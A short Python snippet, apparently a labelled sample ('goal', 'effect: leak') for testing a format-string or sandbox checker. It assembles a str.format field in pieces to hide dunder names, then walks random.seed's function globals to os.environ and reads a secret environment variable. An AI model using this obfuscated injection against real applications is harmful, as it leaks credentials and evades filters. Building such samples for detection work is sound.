"""
goal: build the format field itself out of pieces at run time
effect: leak
"""

import random

path = "{0." + "_" * 2 + "func" + "_" * 2 + "." + "_" * 2 + "globals" + "_" * 2 + "[_os].environ[" + SECRET_ENV + "]}"
print(path.format(random.seed))
